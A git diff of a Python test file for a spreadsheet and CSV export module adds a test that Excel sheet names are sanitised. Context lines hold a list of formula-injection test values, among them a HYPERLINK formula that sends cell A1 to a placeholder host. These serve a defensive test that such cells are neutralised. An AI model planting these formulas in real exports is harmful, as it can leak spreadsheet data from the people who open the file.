@@ -5,10 +5,11 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
 from niangjia_projections.entrypoints.people import DIRECTORY_COLUMNS, _workbook
 from niangjia_projections.exports import FORMULA_STARTS, csv_cell
 from niangjia_projections.models.audit import queries as audit
-from niangjia_projections.workbook import put
+from niangjia_projections.workbook import put, sheet_name
 from openpyxl import Workbook, load_workbook
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -51,3 +52,17 @@ def test_a_report_workbook_cell_that_starts_as_any_formula_would_is_marked_text(
         cell = put(sheet, row, 1, f'{start}HYPERLINK("http://x")')
         assert (cell.data_type, cell.quotePrefix) == ("s", True), repr(start)
     assert put(sheet, 9, 1, "武进区").quotePrefix is False
+
+
+@pytest.mark.parametrize(
+    ("title", "sheet"),
+    [
+        ("四季关爱行动年度报表", "四季关爱行动年度报表"),
+        ("Care campaigns: the year", "Care campaigns - the year"),
+        ("Seasonal care campaigns: the year of the horse", "Seasonal care campaigns - the"),
+        ("a/b?c*[d]", "a b c d"),
+        ("x" * 40, "x" * 31),
+    ],
+)
+def test_a_sheet_is_named_by_its_title_as_excel_allows(title: str, sheet: str) -> None:
+    assert sheet_name(title) == sheet
